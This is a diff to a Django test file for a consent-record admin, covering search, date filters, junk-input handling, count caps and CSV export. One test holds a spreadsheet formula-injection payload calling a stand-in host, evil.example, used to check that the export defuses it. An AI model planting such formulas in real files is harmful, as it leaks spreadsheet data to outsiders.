@@ -9,6 +9,8 @@ from urllib.parse import urlencode
 
 import pytest
 from django.contrib.auth.models import Permission
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
 from consent import chain
@@ -19,7 +21,8 @@ pytestmark = pytest.mark.usefixtures("consent_seed")
 PASSWORD = "correct horse battery staple"
 
 
-def record(consent_id=None, action="custom", version=1, analytics=False, days_ago=0):
+def record(consent_id=None, action="custom", version=1, analytics=False, days_ago=0,
+           fingerprint="ab" * 32, language=""):
     entry = ConsentRecord(
         consent_id=consent_id or uuid.uuid4(),
         created_at=timezone.now() - datetime.timedelta(days=days_ago),
@@ -27,7 +30,8 @@ def record(consent_id=None, action="custom", version=1, analytics=False, days_ag
         choices={"functional": True, "embeds": False, "analytics": analytics},
         action=action,
         path="/",
-        texts_fingerprint="ab" * 32,
+        texts_fingerprint=fingerprint,
+        language=language,
     )
     chain.append([entry])
     return entry
@@ -71,6 +75,7 @@ def test_records_can_be_searched_by_consent_id_and_filtered(officer_client):
         return page.context["cl"].result_count
 
     assert listed(f"?q={mine}") == 2
+    assert listed(f"?q={str(mine).upper()}") == 2
     assert listed("?q=not-a-uuid") == 0
     assert listed("?action__exact=withdraw") == 1
     assert listed("?version=2") == 1
@@ -122,6 +127,10 @@ def test_weekly_overview_shows_the_share_who_allowed_each_purpose(officer_client
     this_week = page.context["weeks"][-1]
     assert this_week["visitors"] == 3
     assert this_week["shares"] == {"embeds": 0.0, "analytics": 66.7}
+    # The figures come from the per-day summary: the page never reads the records.
+    with CaptureQueriesContext(connection) as queries:
+        assert officer_client.get("/admin/consent/consentrecord/overview/").status_code == 200
+    assert not [q["sql"] for q in queries if "consent_consentrecord" in q["sql"]]
     assert "66.7 %" in text
     assert page.context["weeks"][0]["visitors"] == 0
     assert Purpose.objects.filter(required=False).count() == len(page.context["chart"]["lines"])
@@ -135,6 +144,138 @@ def test_the_texts_behind_a_fingerprint_are_readable_with_the_records(officer_cl
     page = officer_client.get(f"/admin/consent/showntexts/{'ab' * 32}/change/")
     assert page.status_code == 200 and b"Use of personal data" in page.content
     assert officer_client.get(f"/admin/consent/showntexts/{'ab' * 32}/delete/").status_code == 403
+
+
+def test_records_are_found_by_the_beginning_of_their_consent_id(officer_client):
+    mine = uuid.UUID("3f2a9c1b-4e2a-4b7d-9c1e-0123456789ab")
+    record(consent_id=mine)
+    record(consent_id=mine, action="withdraw")
+    record(consent_id=uuid.UUID("3f2a9c1c-0000-4000-8000-000000000000"))
+    record(consent_id=uuid.UUID("ffffffff-ffff-4fff-bfff-ffffffffffff"))
+
+    def found(term):
+        page = officer_client.get("/admin/consent/consentrecord/", {"q": term})
+        assert page.status_code == 200
+        return {str(r.consent_id) for r in page.context["cl"].result_list}
+
+    assert found("3f2a9c1b") == {str(mine)}
+    assert found("3F2A9C1B-4E") == {str(mine)}
+    assert found(" 3f2a9c1 ") == {str(mine), "3f2a9c1c-0000-4000-8000-000000000000"}
+    assert found("ffffffff-ffff-4fff-bfff-ffffffffffff") == {"ffffffff-ffff-4fff-bfff-ffffffffffff"}
+    assert found("3f2a9c1d") == set()
+    page = officer_client.get("/admin/consent/consentrecord/", {"q": "3f2a-zz"})
+    assert page.status_code == 200 and page.context["cl"].result_count == 0
+    assert "is not a consent id" in page.content.decode()
+
+
+def test_records_are_filtered_by_a_date_range(officer_client):
+    record(days_ago=0)
+    record(days_ago=10)
+    record(days_ago=40)
+    today = timezone.localdate()
+
+    def listed(**dates):
+        page = officer_client.get("/admin/consent/consentrecord/", dates)
+        assert page.status_code == 200
+        return page.context["cl"].result_count
+
+    assert listed(created_from=(today - datetime.timedelta(days=11)).isoformat()) == 2
+    assert listed(created_to=(today - datetime.timedelta(days=10)).isoformat()) == 2
+    assert listed(created_from=(today - datetime.timedelta(days=41)).isoformat(),
+                  created_to=(today - datetime.timedelta(days=9)).isoformat()) == 2
+    assert listed(created_from=today.isoformat(), created_to=today.isoformat()) == 1
+    # The form keeps the other filters and shows the dates chosen.
+    page = officer_client.get("/admin/consent/consentrecord/",
+                              {"created_from": today.isoformat(), "action__exact": "custom"})
+    text = page.content.decode()
+    assert f'name="created_from" value="{today.isoformat()}"' in text
+    assert 'type="hidden" name="action__exact" value="custom"' in text
+
+
+@pytest.mark.parametrize(
+    "query, message",
+    [
+        ("version=%C2%B2", "Unknown policy version"),
+        ("version=1x", "Unknown policy version"),
+        ("purpose=analytics:2", "Unknown purpose"),
+        ("purpose=nothing:1", "Unknown purpose"),
+        ("purpose=%F0%9F%8D%AA", "Unknown purpose"),
+        ("created_from=2025-13-01", "Unknown date"),
+        ("created_to=%C2%B2", "Unknown date"),
+        ("created_from=0001-01-01", "Unknown date"),
+        ("created_to=9999-12-31", "Unknown date"),
+        ("q=%ED%A0%80", "is not a consent id"),
+    ],
+)
+def test_junk_filter_values_get_a_message_not_a_500(officer_client, query, message):
+    record()
+    page = officer_client.get("/admin/consent/consentrecord/?" + query)
+    assert page.status_code == 200
+    assert page.context["cl"].result_count == 0
+    assert message in page.content.decode()
+
+
+def test_other_junk_filter_values_are_refused_by_the_admin_itself(officer_client):
+    record()
+    for query in ["gpc__exact=%C2%B2", "created_at__gte=%C2%B2", "p=%C2%B2", "o=%C2%B2", "e=1"]:
+        response = officer_client.get("/admin/consent/consentrecord/?" + query)
+        assert response.status_code in {200, 302}, query
+    # PostgreSQL refuses NUL in text: refused up front, on every database.
+    for query in ["action__exact=%00", "q=a%00", "created_from=%00", "x%00=1"]:
+        response = officer_client.get("/admin/consent/consentrecord/?" + query)
+        assert response.status_code == 400, query
+        assert b"NUL" in response.content
+
+
+def test_choices_are_readable_and_the_texts_shown_are_one_click_away(officer_client):
+    from consent.models import ShownTexts
+
+    ShownTexts.objects.create(fingerprint="cd" * 32, content={"title": "Use of personal data"})
+    entry = record(analytics=True, fingerprint="cd" * 32)
+    page = officer_client.get("/admin/consent/consentrecord/")
+    text = page.content.decode()
+    assert "Embedded external content: refused / Analytics: allowed" in text
+    assert '{"functional"' not in text and "functional on" not in text
+    texts_url = f"/admin/consent/showntexts/{'cd' * 32}/change/"
+    assert f'href="{texts_url}"' in text
+    assert str(entry.consent_id)[:8] in text
+    detail = officer_client.get(f"/admin/consent/consentrecord/{entry.pk}/change/").content.decode()
+    assert "Functional: allowed / Embedded external content: refused / Analytics: allowed" in detail
+    assert f'href="{texts_url}"' in detail and str(entry.consent_id) in detail
+    assert b"Use of personal data" in officer_client.get(texts_url).content
+
+
+def test_a_long_list_counts_only_up_to_a_cap(officer_client, monkeypatch):
+    from consent.admin import CappedCountPaginator
+
+    monkeypatch.setattr(CappedCountPaginator, "CAP", 5)
+    for _ in range(8):
+        record()
+    page = officer_client.get("/admin/consent/consentrecord/")
+    assert page.status_code == 200
+    assert "More than 5 consent records" in page.content.decode()
+    assert "Select all matching records (more than 5)" in page.content.decode()
+    assert officer_client.get("/admin/consent/consentrecord/?action__exact=withdraw").context[
+        "cl"].result_count == 0
+
+
+def test_csv_export_keeps_visitor_text_from_becoming_a_formula(officer_client, client):
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
+    response = client.post(
+        "/consent/", urlencode({"action": "decline", "next": "/"}),
+        content_type="application/x-www-form-urlencoded",
+        headers={"Origin": "http://testserver", "Sec-Fetch-Site": "same-origin",
+                 "User-Agent": attack},
+    )
+    assert response.status_code == 303
+    entry = ConsentRecord.objects.get()
+    assert entry.user_agent == attack  # the proof keeps what was sent
+    exported = officer_client.post(
+        "/admin/consent/consentrecord/", {"action": "export_csv", "_selected_action": [entry.pk]}
+    )
+    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
+    assert rows[0]["user_agent"] == "'" + attack
+    assert rows[0]["path"] == "/"
 
 
 def test_the_overview_splits_decisions_by_language(officer_client):
@@ -160,3 +301,20 @@ def test_the_overview_splits_decisions_by_language(officer_client):
     listing = officer_client.get("/admin/consent/consentrecord/", {"language__exact": "fr"})
     assert str(french.consent_id) in listing.content.decode()
     assert str(old.consent_id) not in listing.content.decode()
+
+
+def test_the_record_list_reads_a_bounded_number_of_records(officer_client, monkeypatch):
+    # At a million records every query on the records must stop early (a LIMIT): no
+    # COUNT(*) of the table, no list of distinct values, no date hierarchy.
+    from consent.admin import ConsentRecordAdmin
+
+    monkeypatch.setattr(ConsentRecordAdmin, "list_per_page", 2)  # more than a page
+    for _ in range(3):
+        record(consent_id=uuid.UUID("3f2a0000-0000-4000-8000-000000000000"), language="fr")
+    for query in ["", "?language__exact=fr", "?q=3f2a", "?action__exact=custom",
+                  "?created_from=2025-01-01"]:
+        with CaptureQueriesContext(connection) as queries:
+            assert officer_client.get("/admin/consent/consentrecord/" + query).status_code == 200
+        unbounded = [q["sql"] for q in queries
+                     if "consent_consentrecord" in q["sql"] and "LIMIT" not in q["sql"]]
+        assert not unbounded, (query, unbounded)
